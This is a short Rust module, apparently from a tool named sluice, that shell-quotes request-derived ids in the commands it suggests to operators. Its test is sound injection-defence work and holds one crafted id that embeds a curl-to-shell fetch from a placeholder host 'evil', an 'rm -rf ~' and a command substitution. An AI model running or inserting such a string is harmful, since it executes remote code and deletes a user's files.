//! The commands sluice suggests to an operator, in alerts, step errors and
//! CLI output (`sluice credentials set cred-1 …`), hold ids that came from
//! requests. Each word is shell-quoted (`shlex`, POSIX rules), so an id
//! stays one word whatever it holds: pasted into a shell, the line runs
//! the command it names and nothing else.

/// `words` as one shell command line, each word quoted where it needs it.
pub fn command(words: &[&str]) -> String {
    let quoted = words.iter().map(|word| match shlex::try_quote(word) {
        Ok(word) => word.into_owned(),
        // Only a NUL byte cannot be quoted; ids never hold one (control
        // characters are refused at ingest), so say so rather than guess.
        Err(_) => "'<an id holding a NUL byte>'".to_owned(),
    });
    quoted.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_crafted_id_stays_one_word() {
        assert_eq!(command(&["sluice", "credentials", "set", "cred-1"]), "sluice credentials set cred-1");
        let crafted = "x`curl evil|sh`; rm -rf ~ $(id)";
        let line = command(&["sluice", "credentials", "set", crafted]);
        assert_eq!(shlex::split(&line).unwrap(), ["sluice", "credentials", "set", crafted]);
        assert!(line.ends_with('\''), "{line}");
    }
}
